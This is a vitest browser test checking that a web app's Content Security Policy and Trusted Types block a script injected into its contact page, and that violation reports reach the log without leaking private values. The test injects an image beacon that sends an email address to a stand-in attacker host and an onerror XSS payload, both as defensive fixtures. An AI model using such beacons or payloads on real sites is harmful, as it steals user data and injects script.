import { expect, test } from 'vitest'
import { aBrowser } from '#tests/support/browser.ts'
import { listening } from '#tests/support/listening.ts'
import { given } from '#tests/support/app.ts'

test('a script that got into a page makes no markup and loads nothing, and the log hears of it', async () => {
  const app = given()
  await using server = await listening(app.app)
  await using visit = await aBrowser({ url: server.url })
  const { page } = visit
  await page.goto(`${server.url}/contact?l=segredo`)

  const made = await page.evaluate(() => {
    new Image().src = 'https://evil.example/a.png?email=ana@exemplo.com.br'
    const place = document.createElement('div')
    try {
      place.innerHTML = '<img src=x onerror=alert(1)>'
    } catch {
      return 'refused'
    }
    return place.innerHTML
  })
  expect(made).toBe('refused')

  const told = () => app.logged.filter(({ directive }) => directive !== undefined)
  await expect
    .poll(() => told().map(({ directive }) => directive))
    .toEqual(expect.arrayContaining(['img-src', 'require-trusted-types-for']))
  expect(told().every(({ page: path }) => path === '/contact')).toBe(true)
  expect(JSON.stringify(app.logged)).not.toMatch(/segredo|ana@|onerror/)
})
